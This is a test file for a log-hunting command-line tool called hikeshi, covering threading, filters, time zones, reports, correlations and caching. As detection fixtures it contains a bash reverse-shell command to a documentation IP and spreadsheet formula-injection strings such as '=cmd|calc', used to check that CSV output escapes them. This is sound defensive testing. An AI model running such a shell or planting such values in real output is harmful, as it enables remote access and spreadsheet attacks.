// timeout: 240
// What hikeshi hunt does for people: threads, filters, times, reasons, reports.

import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { appendFileSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';

import { attack, FOUND_BY } from './attack.mjs';
import { makeEvtx } from './evtx.mjs';
import { english, environment, file, folder, HARMLESS, hikeshi, HIKESHI, lines, objects, rule, RULES, SHELL, SHELL_RULE, started } from './program.mjs';

const own = ['hunt', ...FOUND_BY, '--quiet'];
const json = [...own, '--json'];
const DAY = attack({ quiet: 800 });
const day = file('day.ndjson', DAY);

test('any number of threads gives the same, byte for byte', async (t) => {
	const bad = DAY.split('\n').flatMap((line, i) => i % 97 === 0 ? [line, '{"broken', ''] : i % 211 === 0 ? [line, `{"a":"${'x'.repeat(1 << 20)}"}`] : [line]).join('\n');
	const big = file('threads/big.ndjson', `${attack({ days: 3, quiet: 9000 })}${bad}`);
	assert.ok(statSync(big).size > 16 << 10);
	file('threads/a.json', JSON.stringify(DAY.trim().split('\n').map((line) => JSON.parse(line))));
	file('threads/b/b.ndjson', bad);
	file('threads/b/c.ndjson', 'no json\nat all\n');
	file('threads/b/d.evtx', makeEvtx([[{ provider: 'Microsoft-Windows-Eventlog', id: 1102, channel: 'Security', time: Date.parse('2026-11-20T00:00:00Z'), computer: 'PC', data: {} }]]));
	const all = [join(folder, 'threads'), join(folder, 'absent'), day];
	for (const [name, args, paths] of [['json', ['--output', 'json', '--explain'], all], ['csv', ['--output', 'csv'], all], ['table', ['--explain'], all],
		['html', ['--output', 'html'], all], ['one large file', ['--output', 'json'], [big]], ['one file of another form', ['--json'], [join(folder, 'threads/a.json')]]]) {
		await t.test(name, () => {
			const one = english(paths === all ? 66 : paths[0] === big ? 65 : 0, [...own, ...args, '--threads', '1', ...paths]);
			assert.ok(one.out.length > 1000);
			for (const threads of ['2', '3', '16']) {
				const more = english(one.status, [...own, ...args, '--threads', threads, ...paths]);
				assert.equal(more.out, one.out, `${threads} threads`);
				assert.equal(more.err, one.err, `${threads} threads, messages`);
			}
		});
	}
	await t.test('standard input', () => {
		const input = readFileSync(big);
		const one = english(65, [...json, '--threads', '1', '-'], { input });
		assert.equal(english(65, [...json, '--threads', '3', '-'], { input }).out, one.out);
		assert.ok(lines(one.out).length > 48);
	});
});

test('events that no rule looks at are told, with their logsources and what to do', () => {
	const kinds = Array.from({ length: 10 }, (_, i) => JSON.stringify(started('/a', 'b', { hikeshi: { product: `acme${i}`, category: 'thing' } })));
	const flat = file('unrouted/flat.ndjson', ['{"CommandLine":"bash -i >& /dev/tcp/192.0.2.1/1 0>&1","Image":"/bin/bash"}']);
	const access = file('unrouted/access.log', ['192.0.2.1 - - [20/Nov/2026:08:00:01 +0900] "GET / HTTP/1.1" 200 5 "-" "curl/8"']);
	const many = file('unrouted/many.ndjson', kinds);
	for (const threads of ['1', '3']) {
		const one = english(0, ['hunt', ...FOUND_BY, '--threads', threads, flat, access]);
		assert.match(one.err, /^2 events are of logsources that no rule looks at: of no known kind, \/webserver\/\n {2}say what they are with --logsource /m);
		const { summary } = JSON.parse(english(0, [...own, '--output', 'json', '--threads', threads, flat, access]).out);
		assert.equal(summary.unrouted, 2);
		assert.deepEqual(summary.unrouted_logsources, [{ product: '', category: '', service: '' }, { product: '', category: 'webserver', service: '' }]);
	}
	assert.match(hikeshi(['--lang', 'ja', 'hunt', ...FOUND_BY, flat, access]).err, /^どのルールも見ないログソースのイベント: 2件.*種類がわからないもの, \/webserver\/\n.*--logsource.*--rules/m);
	/* bound: eight names, then only that there are more */
	const crowd = JSON.parse(english(0, [...own, '--output', 'json', many]).out).summary;
	assert.equal(crowd.unrouted, 10);
	assert.equal(crowd.unrouted_logsources.length, 8);
	assert.match(english(0, ['hunt', ...FOUND_BY, many]).err, /acme7\/thing\/ …$/m);
	/* what it says helps: JSON too is what --logsource says */
	const told = JSON.parse(english(0, ['hunt', '--rules', RULES, '--quiet', '--logsource', 'linux/process_creation/', '--output', 'json', flat]).out);
	assert.equal(told.summary.unrouted, 0);
	assert.ok(told.summary.detections > 0);
	/* nothing is said where each event was looked at */
	assert.doesNotMatch(english(0, ['hunt', ...FOUND_BY, file('unrouted/good.ndjson', [JSON.stringify(SHELL)])]).err, /no rule looks/);
});

test('numbers of records and lines of what cannot be read', () => {
	const path = file('numbers.ndjson', [JSON.stringify(HARMLESS), '', '', 'bad', JSON.stringify(SHELL), `{"a":"${'x'.repeat(1 << 20)}"}`, JSON.stringify(SHELL)]);
	for (const threads of ['1', '2']) {
		const done = english(65, [...own, '--output', 'json', '--threads', threads, path]);
		const report = JSON.parse(done.out);
		assert.deepEqual(report.detections.map((one) => one.record), [3, 5]);
		assert.deepEqual(report.errors.map((one) => [one.file, one.record, one.line]), [[path, 2, 4], [path, 4, 6]]);
		assert.match(report.errors[1].reason, /longer than 1048576 bytes/);
		assert.match(done.err, /numbers\.ndjson: record 2 \(line 4\): /);
		assert.equal(report.summary.lost, 2);
		assert.equal(report.summary.events, 3);
		assert.equal(report.summary.detections, 2);
		assert.deepEqual(report.summary.levels, { critical: 2, high: 0, medium: 0, low: 0, informational: 0 });
	}
});

test('errors are sampled: twenty of a file are told, a thousand of all are kept', () => {
	const many = file('losses.ndjson', Array.from({ length: 500 }, () => '{bad'));
	const done = english(65, [...own, '--output', 'json', ...Array.from({ length: 60 }, () => many)]);
	const report = JSON.parse(done.out);
	assert.equal(report.errors.length, 1000);
	assert.deepEqual(report.errors.slice(18, 22).map((one) => one.record), [19, 20, 1, 2]);
	assert.equal(report.summary.lost, 30000);
	assert.equal(lines(done.err).filter((line) => line.includes('only counted from here')).length, 60);
});

test('rules are chosen by tag, status, level and id', async (t) => {
	const detection = '    s:\n        Image|endswith: /bash\n    condition: s';
	const rules = [['One', 'high', 'test', '[attack.execution, attack.t1059.004]'], ['Two', 'low', 'stable', '[attack.t1059]'], ['Three', 'medium', 'test', '[attack.t10591]'], ['Four', 'high', 'experimental', '[]']]
		.flatMap(([title, level, status, tags]) => ['--rules', file(`chosen/${title}.yml`, `${rule(title, detection, { level })}status: ${status}\ntags: ${tags}\n`)]);
	const id = JSON.parse(english(0, ['hunt', ...rules, '--quiet', '--json', file('one.ndjson', [SHELL])]).out.split('\n')[0]).rule.id;
	for (const [args, titles] of [
		[['--tag', 'attack.t1059'], ['One', 'Two']], [['--tag', 'ATTACK.T1059.004'], ['One']], [['--tag', 'attack.t1059.004', '--tag', 'attack.t10591'], ['One', 'Three']],
		[['--status', 'test'], ['One', 'Three']], [['--level', 'high'], ['Four', 'One']], [['--level', 'low', '--level', 'medium'], ['Three', 'Two']],
		[['--id', id], ['One']], [['--status', 'test', '--level', 'high'], ['One']], [['--min-level', 'medium', '--tag', 'attack.t1059'], ['One']],
	]) {
		await t.test(args.join(' '), () => assert.deepEqual(objects(english(0, ['hunt', ...rules, '--quiet', '--json', ...args, join(folder, 'one.ndjson')]).out).map((one) => one.rule.title).sort(), titles));
	}
	assert.match(english(66, ['hunt', ...rules, '--tag', 'attack.t9999', join(folder, 'one.ndjson')]).err, /no rule has the tags/);
	english(2, ['hunt', ...rules, '--level', 'grave', join(folder, 'one.ndjson')]);
});

test('a range of time, as people write it', async (t) => {
	const when = (text) => ({ ...SHELL, hikeshi: { product: 'linux', category: 'process_creation', ...(text ? { observed: text } : {}) } });
	const path = file('range.ndjson', ['2026-11-20T14:59:59Z', '2026-11-20T15:00:00Z', '2026-11-21T14:59:59.999999Z', '2026-11-21T15:00:00Z', ''].map(when));
	for (const [args, records, env = {}] of [
		[['--jst', '--from', '2026-11-21'], [2, 3, 4]], [['--jst', '--from', '2026-11-21', '--to', '2026-11-21'], [2, 3]], [['--utc', '--to', '2026-11-20'], [1, 2]],
		[['--utc', '--from', '2026-11-20 15:00', '--to', '2026-11-21T15:00:00'], [2, 3]], [['--jst', '--from', '2026-11-21T15:00:00Z'], [4]], [['--to', '2026-11-21T00:00:00+09:00'], [1]],
		[['--from', '2026-11-21'], [2, 3, 4], { TZ: 'Asia/Tokyo' }], [['--from', '2026-11-20T10:00'], [2, 3, 4], { TZ: 'America/New_York' }], [[], [1, 2, 3, 4, 5]],
	]) {
		await t.test(args.join(' ') || 'none', () => assert.deepEqual(objects(english(0, [...json, ...args, path], { env }).out).map((one) => one.record), records));
	}
	const summary = english(0, ['hunt', '--rules', RULES, '--jst', '--from', '2026-11-21', path]).err;
	assert.match(summary, /^2 events are not of the time asked for\.$/m);
	for (const wrong of [['--from', 'yesterday'], ['--to', '2026-13-01'], ['--from', '2026-11-21', '--to', '2026-11-20'], ['--utc', '--jst'], ['--from', '2026-11-21T25:00']])
		english(2, [...json, ...wrong, path]);
});

test('times are shown in the zone of the machine, of Japan, or as UTC', () => {
	const path = file('zone.ndjson', [SHELL]);
	for (const [args, env, words] of [[[], {}, '2026-11-21 01:02:03Z  '], [['--utc'], { TZ: 'Asia/Tokyo' }, '2026-11-21 01:02:03Z  '], [['--jst'], {}, '2026-11-21 10:02:03+09:00  '],
		[[], { TZ: 'Asia/Tokyo' }, '2026-11-21 10:02:03+09:00  '], [[], { TZ: 'America/St_Johns' }, '2026-11-20 21:32:03-03:30  '], [[], { TZ: 'Europe/Berlin' }, '2026-11-21 02:02:03+01:00  ']])
		assert.ok(english(0, [...own, ...args, path], { env }).out.startsWith(words), `${args} ${env.TZ}`);
	assert.equal(objects(english(0, [...json, '--jst', path]).out)[0].time, '2026-11-21T01:02:03.456789Z', 'programs get UTC');
});

test('--explain tells why', () => {
	const path = file('why.ndjson', [started('/usr/bin/bash', `${'x'.repeat(300)} bash -i >& /dev/tcp/192.0.2.1/4 ${'y'.repeat(300)}`)]);
	const table = english(0, [...own, '--id', SHELL_RULE.id, '--explain', path]).out;
	assert.match(table, /\n {6}✓ \w+ {2}CommandLine\|\S+: '.+' {2}← '….*\/dev\/tcp\/.*…'\n/);
	assert.ok(lines(table).every((line) => line.length < 420));
	const [one] = objects(english(0, [...json, '--id', SHELL_RULE.id, '--explain', path]).out);
	const reason = one.reasons.find((r) => r.matched && r.field === 'CommandLine');
	assert.ok(reason.value.includes(reason.part) && reason.part.length < reason.value.length);
	assert.equal('reasons' in objects(english(0, [...json, path]).out)[0], false);
});

test('--output csv is safe in a spreadsheet', () => {
	const evil = started('=cmd|calc', '@SUM(1)"x",\n1', { User: '-2+3', Computer: '+1' });
	const rules = file('csv.yml', rule('"=1+1, \\"x\\""', '    s:\n        CommandLine|contains: SUM\n    condition: s'));
	const { out } = english(0, ['hunt', '--quiet', '--rules', rules, '--output', 'csv', '--utc', file('evil.ndjson', [evil])]);
	assert.ok(out.startsWith('\ufefftime,level,rule,rule_id,tags,computer,user,image,summary,file,record\r\n'));
	assert.match(out.split('\r\n')[1], /^"2026-11-21T01:02:03\.456789Z","high","'=1\+1, ""x""","[0-9a-f-]{36}","","'\+1","'-2\+3","'=cmd\|calc","'@SUM\(1\)""x"", 1",".*evil\.ndjson","1"$/);
	assert.equal(out.split('\r\n').length, 3);
});

test('--navigator writes a layer', () => {
	const path = join(folder, 'layer.json');
	english(0, [...own, '--navigator', path, day]);
	const layer = JSON.parse(readFileSync(path));
	assert.deepEqual([layer.versions.layer, layer.domain], ['4.5', 'enterprise-attack']);
	const one = layer.techniques.find((technique) => technique.techniqueID === 'T1490');
	assert.equal(one.score, 3);
	assert.match(one.comment, /^Shadow Copies Or Backups Deleted \(3\)$/);
	assert.ok(layer.techniques.every((technique) => /^T\d{4}(\.\d{3})?$/.test(technique.techniqueID)));
	english(66, [...own, '--navigator', join(folder, 'no/such/layer.json'), day]);
});

test('--save writes the results; the form is that of its name', () => {
	for (const [name, words] of [['r.json', /^\{"detections":\[/], ['r.ndjson', /^\{"file":/], ['r.csv', /^\ufefftime,/], ['r.html', /^<!doctype html>/], ['r.txt', /^2026-11-20 00:12:00Z/]]) {
		const path = join(folder, name);
		assert.equal(english(0, [...own, '--save', path, day]).out, '');
		assert.match(readFileSync(path, 'utf8'), words);
		assert.equal(statSync(path).mode & 0o777, 0o600, 'evidence is nobody else\'s');
	}
	english(74, [...own, '--save', join(folder, 'no/such/r.json'), day]);
	assert.match(english(74, [...own, '--save', '/dev/full', '--json', day]).err, /not all of the results could be written/);
});

test('correlations are detections, whatever the threads', () => {
	const at = (second, user) => started('/usr/bin/bash', 'bash', { User: user, hikeshi: { observed: new Date(Date.parse('2026-11-21T01:00:00Z') + second * 1000).toISOString() } });
	const events = Array.from({ length: 400 }, (_, i) => at(i * 10, i % 100 < 4 ? 'taro' : `user${i}`));
	const rules = file('many.yml', 'title: Shell\nid: 00000000-0000-4000-8000-00000000f001\nname: shell\nlevel: low\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    s:\n        Image|endswith: /bash\n    condition: s\n'
		+ '---\ntitle: Many Shells\nid: 00000000-0000-4000-8000-00000000f002\nlevel: critical\ntags: [attack.execution, attack.t1059]\ncorrelation:\n    type: event_count\n    rules: [shell]\n    group-by: [User]\n    timespan: 1m\n    condition:\n        gte: 4\n');
	const path = file('many.ndjson', events);
	const one = english(0, ['hunt', '--quiet', '--json', '--explain', '--rules', rules, '--threads', '1', path]).out;
	assert.equal(english(0, ['hunt', '--quiet', '--json', '--explain', '--rules', rules, '--threads', '4', path]).out, one);
	const list = objects(one);
	assert.ok(list.every((hit) => hit.rule.title === 'Many Shells'), 'the single ones are quiet');
	assert.equal(list.length, 4);
	assert.deepEqual(list[0].correlation.group, { User: 'taro' });
	assert.deepEqual(list[0].correlation.events.map((event) => event.record), [1, 2, 3, 4]);
	assert.equal(list[0].record, 4);
	assert.equal(list[0].event, null);
	assert.ok(list[0].reasons.length > 0);
	const table = english(1, ['hunt', '--fail-level', 'critical', '--explain', '--rules', rules, path]);
	assert.match(table.out, /critical +Many Shells\n +.*many\.ndjson:4\n +User=taro {2}4 events, from 2026-11-21 01:00:00Z\n/);
	assert.match(table.err, /critical +4 /);
	assert.match(english(0, ['hunt', '--quiet', '--output', 'csv', '--rules', rules, path]).out, /Many Shells/);
});

test('the summary counts by level, tactic and time', () => {
	const { err } = english(0, ['hunt', ...FOUND_BY, '--utc', '--min-level', 'high', day]);
	const count = Number(/; (\d+) detections$/m.exec(err)[1]);
	const levels = [...err.matchAll(/^ {2}(?:critical|high) +(\d+) {2}■+$/gm)].map((match) => Number(match[1]));
	assert.equal(levels.length, 2);
	assert.equal(levels[0] + levels[1], count);
	assert.match(err, /^Computers with detections: 3$/m);
	assert.match(err, /^Tactic \(ATT&CK\) +critical +high$/m);
	assert.match(err, /^ {2}Impact +3/m);
	assert.match(err, /^Timeline +11-20 00:12 +11-20 05:16\n {2}critical {6}[·▁▂▃▄▅▆▇█]{60}\n {2}high {10}[·▁▂▃▄▅▆▇█]{60}$/m);
	assert.match(err, /^Most frequent\n +3 {2}critical +Shadow Copies Or Backups Deleted$/m);
});

test('the summary of a decade stays small', () => {
	const many = file('decade.ndjson', Array.from({ length: 20000 }, (_, i) => ({ ...SHELL, hikeshi: { ...SHELL.hikeshi, observed: new Date(Date.parse('1969-01-01T00:00:00Z') + i * 86400000).toISOString() } })));
	const { err } = english(0, ['hunt', '--rules', RULES, '--save', join(folder, 'decade.csv'), many]);
	const row = /^ {2}critical {6}([·▁▂▃▄▅▆▇█]{60})$/m.exec(err);
	assert.ok(row && !row[1].includes('·'), err);
});

test('Ctrl-C ends the search and tells what was found', async () => {
	for (const threads of ['1', '3']) {
		const child = spawn(HIKESHI, ['--lang', 'en', 'hunt', '--rules', RULES, '--json', '--threads', threads, '-'], { stdio: ['pipe', 'pipe', 'pipe'], env: environment });
		let out = '', err = '';
		child.stdout.on('data', (part) => { out += part; });
		child.stderr.on('data', (part) => { err += part; });
		const ended = new Promise((done) => child.once('close', done));
		child.stdin.on('error', () => { /* it ends while we write */ });
		child.stdin.write(DAY);
		while (!out.includes('\n')) await new Promise((done) => setTimeout(done, 20));
		child.kill('SIGINT');
		const more = setInterval(() => child.stdin.write(DAY), 20);
		assert.equal(await ended, 0, err);
		clearInterval(more);
		assert.match(err, /\d+ detections\n/);
	}
});

test('wrong numbers of threads', () => {
	for (const threads of ['0', '257', 'x', '-1', ''])
		assert.match(english(2, [...own, '--threads', threads, day]).err, /--threads is a number from 1 to 256/);
	english(0, [...own, '--threads', '256', day]);
});

test('--follow tells what others write, also to new files of a folder', async () => {
	const at = join(folder, 'follow');
	file('follow/a.ndjson', [HARMLESS]);
	const child = spawn(HIKESHI, ['--lang', 'en', 'hunt', '--rules', RULES, '--json', '--follow', at], { stdio: ['ignore', 'pipe', 'pipe'], env: environment });
	let out = '', err = '';
	child.stdout.on('data', (part) => { out += part; });
	child.stderr.on('data', (part) => { err += part; });
	const ended = new Promise((done) => child.once('close', done));
	const until = async (count) => {
		for (let i = 0; i < 200 && lines(out).length < count; i++) await new Promise((done) => setTimeout(done, 50));
		assert.equal(lines(out).length, count, err);
	};
	try {
		await new Promise((done) => setTimeout(done, 500));
		appendFileSync(join(at, 'a.ndjson'), `${JSON.stringify(SHELL)}\n`);
		await until(1);
		file('follow/b.ndjson', [SHELL]);
		await until(2);
		appendFileSync(join(at, 'a.ndjson'), `${JSON.stringify(SHELL)}\n`);
		await until(3);
	} finally {
		child.kill('SIGINT');
	}
	assert.equal(await ended, 0, err);
	assert.deepEqual(objects(out).map((one) => one.file.split('/').pop()), ['a.ndjson', 'b.ndjson', 'a.ndjson']);
	assert.match(err, /3 detections\n/);
	english(2, [...json, '--follow', '-']);
	english(2, [...json, '--follow', at, at]);
});

test('--format and --logsource say what it is', () => {
	const rules = file('format.yml', rule('Format', '    s:\n        message|contains: attack\n    condition: s', { logsource: 'product: door\n    service: lock' }));
	const path = file('plain.txt', 'all well\nan attack\n');
	const done = english(0, ['hunt', '--quiet', '--json', '--rules', rules, '--format', 'text', '--logsource', 'door//lock', path]);
	assert.deepEqual(objects(done.out).map((one) => [one.record, one.event.message]), [[2, 'an attack']]);
	english(65, [...json, path]);
	english(2, [...json, '--format', 'nonsense', path]);
});

test('packed files, and names that rotation made', () => {
	file('rotated/access.ndjson.gz', gzipSync(`${JSON.stringify(SHELL)}\n`));
	file('rotated/events.json.2.gz', gzipSync(`${JSON.stringify(SHELL)}\n`));
	file('rotated/messages-20261121', 'Nov 21 10:00:00 pc kernel: x\n');
	file('rotated/notes.txt', 'nothing');
	const report = JSON.parse(english(0, [...own, '--output', 'json', join(folder, 'rotated')]).out);
	assert.equal(report.summary.files, 3);
	assert.equal(report.detections.length, 2);
});

test('--placeholders gives values to rules', () => {
	const rules = file('expand.yml', rule('Expand', "    s:\n        User|expand: '%admins%'\n    condition: s"));
	const values = file('values.yml', 'admins: [root, admin*]\n');
	const path = file('expand.ndjson', ['root', 'administrator', 'taro'].map((User) => started('/bin/ls', 'ls', { User })));
	assert.deepEqual(objects(english(0, ['hunt', '--quiet', '--json', '--rules', rules, '--placeholders', values, path]).out).map((one) => one.record), [1, 2]);
	assert.match(english(65, ['hunt', '--rules', rules, path]).err, /admins/);
	english(0, ['rule', 'check', '--placeholders', values, rules]);
	english(65, ['rule', 'check', rules]);
	for (const command of [['hunt', '--rules', rules], ['rule', 'check']]) {
		english(66, [...command, '--placeholders', join(folder, 'absent'), path]);
		english(65, [...command, '--placeholders', file('bad-values.yml', '- x\n'), path]);
	}
});

test('--cache gives the same, and keeps the rules', async () => {
	/* Files that changed a moment ago may change again unseen: they are not kept. */
	const rest = () => new Promise((done) => setTimeout(done, 3500));
	const cache = join(folder, 'cache');
	mkdirSync(cache, { mode: 0o700 });
	file('cached/r.yml', rule('Cached', '    s:\n        Image|endswith: /bash\n    condition: s'));
	const args = ['hunt', '--quiet', '--json', '--rules', join(folder, 'cached'), '--cache', cache, file('cached.ndjson', [SHELL, HARMLESS])];
	await rest();
	const one = english(0, args).out;
	assert.equal(lines(one).length, 1);
	assert.ok(readdirSync(cache).length > 0, 'something is kept');
	assert.equal(english(0, args).out, one);
	file('cached/r.yml', rule('Changed', '    s:\n        Image|endswith: /ls\n    condition: s'));
	assert.deepEqual(objects(english(0, args).out).map((found) => found.rule.title), ['Changed']);
	await rest();
	english(0, args);
	for (const name of readdirSync(cache)) file(`cache/${name}`, 'broken');
	assert.deepEqual(objects(english(0, args).out).map((found) => found.rule.title), ['Changed']);
});

test('without a word the cache lies among the user\'s, and --no-cache keeps nothing', async () => {
	const place = join(folder, 'xdg'), args = ['hunt', '--quiet', '--json', '--rules', join(folder, 'kept'), file('kept.ndjson', [SHELL])];
	const env = { XDG_CACHE_HOME: place };
	file('kept/r.yml', rule('Kept', '    s:\n        Image|endswith: /bash\n    condition: s'));
	await new Promise((done) => setTimeout(done, 3500)); // see above
	english(0, [...args, '--no-cache'], { env });
	assert.ok(!existsSync(place));
	const home = join(folder, 'home'); // of this test alone: others keep theirs, too
	english(0, args, { env: { XDG_CACHE_HOME: 'relative', HOME: home } });
	assert.ok(!existsSync(join(folder, 'relative')));
	assert.equal(readdirSync(join(home, '.cache/hikeshi')).filter((name) => name.endsWith('.cache')).length, 1);
	const first = english(0, args, { env }).out;
	assert.equal(readdirSync(join(place, 'hikeshi')).length, 1);
	assert.equal(statSync(join(place, 'hikeshi')).mode & 0o777, 0o700);
	assert.equal(english(0, args, { env }).out, first);
	rmSync(place, { recursive: true });
	file('xdg', 'no folder');
	assert.equal(english(0, args, { env }).out, first);
});
